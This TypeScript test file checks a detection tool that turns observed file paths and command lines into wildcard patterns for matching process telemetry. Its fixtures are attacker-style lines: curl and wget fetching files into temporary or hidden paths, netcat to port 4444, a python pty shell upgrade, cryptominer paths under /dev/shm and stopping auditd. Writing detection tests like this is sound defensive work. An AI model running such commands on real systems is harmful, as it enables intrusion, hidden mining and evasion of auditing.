import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Behavior } from '../../telemetry/behavior';
import { behaviorView } from '../../telemetry/fields';
import { clauseMatcher } from './clause';
import { generalisedCommand, generalisedPath } from './generalise';

const start = (image: string, commandLine: string): Behavior => ({
  kind: 'process_start',
  process: { started: true, image, argv: [commandLine], commandLine },
});

function holds(field: string, pattern: string, b: Behavior): boolean {
  const matcher = clauseMatcher({ field, values: [pattern], wild: true, negated: false, robustness: 0 });
  return matcher!.matches(behaviorView(b));
}

describe('what stays fixed over paths', () => {
  it.each([
    [['/home/eve/.config/.dbus/.sysd', '/home/bob/.config/.dbus/.sysd'], '/home/*/.config/.dbus/.sysd'],
    [['/dev/shm/.x11/xmrig', '/dev/shm/.x11/xhide'], '/dev/shm/.x11/*'],
    [['/dev/shm/.x11/run', '/dev/shm/.x12/run'], '/dev/shm/.x1*/run'],
    [['/tmp/a/b/run.sh', '/tmp/c/run.sh'], '/tmp/*/run.sh'],
    [['/srv/data', '/srv/data/in'], '/srv/data*'],
    [['/home/eve/.config/x'], '/home/*/.config/x'],
    [['/tmp/tmp.a8Xk2Lm9/x'], '/tmp/tmp.*/x'],
  ])('%j', (paths, pattern) => {
    expect(generalisedPath(paths)).toBe(pattern);
  });

  it('nothing, where too little stays or nothing differs', () => {
    expect(generalisedPath(['/usr/bin/id'])).toBeUndefined();
    expect(generalisedPath(['/a/b', '/c/d'])).toBeUndefined();
    expect(generalisedPath([])).toBeUndefined();
  });
});

describe('what stays fixed over command lines', () => {
  it.each([
    [
      ['curl -s http://198.51.100.7/a -o /tmp/x', 'curl -s http://198.51.100.9/b -o /tmp/y'],
      'curl -s http://198.51.100.* -o /tmp/*',
    ],
    [['./miner -o pool:1 -k', './miner -k -o pool:2 -k'], './miner *-o pool:* -k'],
    [['python3 -c import pty', 'env python3 -c import pty'], '*python3 -c import pty'],
    [['tar czf out.tgz a', 'tar czf out.tgz a b c'], 'tar czf out.tgz a*'],
    [['nc 203.0.113.45 4444'], 'nc * *'],
  ])('%j', (lines, pattern) => {
    expect(generalisedCommand(lines)).toBe(pattern === 'nc * *' ? undefined : pattern);
  });

  it('of one command only what changes from run to run becomes a wildcard', () => {
    expect(generalisedCommand(['wget -q http://203.0.113.45/x -O /home/eve/.cache/x'])).toBe(
      'wget -q http://*/x -O /home/*/.cache/x',
    );
    expect(generalisedCommand(['systemctl stop auditd'])).toBeUndefined();
  });
});

describe('a pattern', () => {
  const word = fc.constantFrom('-o', 'x', 'a*b', 'c?d', 'e\\', '\\\\', 'ü', '🦊a', '🦋a', '', 'pool:3333', '/tmp/.x');
  const line = fc.array(word, { minLength: 1, maxLength: 7 }).map((words) => `tool ${words.join(' ')}`);
  const path = fc.array(word, { minLength: 1, maxLength: 5 }).map((parts) => `/some/where/${parts.join('/')}`);

  it('matches everything that it was made from', () => {
    fc.assert(
      fc.property(
        fc.array(line, { minLength: 1, maxLength: 5 }),
        fc.array(path, { minLength: 1, maxLength: 5 }),
        (lines, paths) => {
          const command = generalisedCommand(lines);
          const place = generalisedPath(paths);
          for (const one of lines)
            if (command) expect(holds('CommandLine', command, start('/x', one)), command).toBe(true);
          for (const one of paths) if (place) expect(holds('Image', place, start(one, 'x')), place).toBe(true);
        },
      ),
      { numRuns: 300 },
    );
  });

  it('of endless commands is not looked for', () => {
    expect(generalisedCommand([`x ${'a-'.repeat(1_000_000)}`])).toBeUndefined();
  });
});
